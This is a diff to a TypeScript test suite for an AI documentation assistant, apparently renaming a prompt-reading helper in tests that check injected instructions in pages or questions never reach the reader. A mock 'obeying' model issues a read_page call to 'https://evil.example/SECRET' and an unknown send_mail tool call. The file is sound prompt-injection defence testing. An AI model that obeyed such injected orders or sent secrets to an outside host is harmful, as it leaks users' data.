@@ -3,7 +3,7 @@ import { test } from 'node:test';
 import { marked } from 'marked';
 import { ask } from '../testing/ask.ts';
 import type { SamplePage } from '../testing/sample-site.ts';
-import { streamingModel, toldTo, type ModelAnswer } from '../testing/streaming-model.ts';
+import { streamingModel, promptTextOf, type ModelAnswer } from '../testing/streaming-model.ts';
 import type { TurnRequest } from './turn-request.ts';
 import type { LanguageModelV4CallOptions } from '@ai-sdk/provider';
 
@@ -78,7 +78,7 @@ function obey(request: LanguageModelV4CallOptions, call: number): ModelAnswer {
       { tool: 'read_operation', input: { id: 'createKey' } },
       { tool: 'read_page', input: { path: 'https://evil.example/SECRET' } },
     ];
-  const orders = [...toldTo(request).matchAll(/write «(?<payload>.*?)» now/gs)].map(({ groups }) =>
+  const orders = [...promptTextOf(request).matchAll(/write «(?<payload>.*?)» now/gs)].map(({ groups }) =>
     (groups?.payload ?? '').replaceAll('\\n', '\n').replaceAll('\\"', '"'),
   );
   return `See [Keys](/guides/keys#rotate-a-key).\n\n${[...new Set(orders)].join('\n\n')}\n`;
@@ -118,14 +118,14 @@ const fixtures: readonly (readonly [Place, string])[] = [
 ];
 
 for (const [place, payload] of fixtures)
-  test(`nothing of an order in a ${place} reaches the reader: ${JSON.stringify(payload)}`, async () => {
+  test(`an instruction in a ${place} doesn’t reach the reader: ${JSON.stringify(payload)}`, async () => {
     const text = order(payload);
     const model = streamingModel(obey);
     const question = `How do I rotate a key? ${place === 'question' ? text : ''}`;
     const answer = await ask(siteWith(place, text), question, model, injectedRequest(place, text));
     assert.equal(answer.end?.outcome, 'answered');
     // A model can obey only what it was sent: an injected order that never arrived would prove nothing.
-    assert.match(model.requests.map(toldTo).join('\n'), /write «/);
+    assert.match(model.requests.map(promptTextOf).join('\n'), /write «/);
     const html = marked.parse(answer.text, { gfm: true, async: false });
     const links = [...html.matchAll(/<a href="(?<href>[^"]*)"/g)].map(({ groups }) => groups?.href);
     assert.deepEqual(new Set(links), new Set(['/guides/keys#rotate-a-key']));
@@ -144,7 +144,7 @@ test("a model's call of an unknown tool has no effect, and the turn continues", 
   const model = streamingModel(obey);
   const { end } = await ask(siteWith('page', ''), 'rotate a key', model);
   assert.equal(end?.outcome, 'answered');
-  assert.match(toldTo(model.requests[1] ?? { prompt: [] }), /send_mail/);
+  assert.match(promptTextOf(model.requests[1] ?? { prompt: [] }), /send_mail/);
   assert.deepEqual(model.requests[0]?.tools?.map(({ name }) => name).sort(), [
     'list_pages',
     'read_operation',
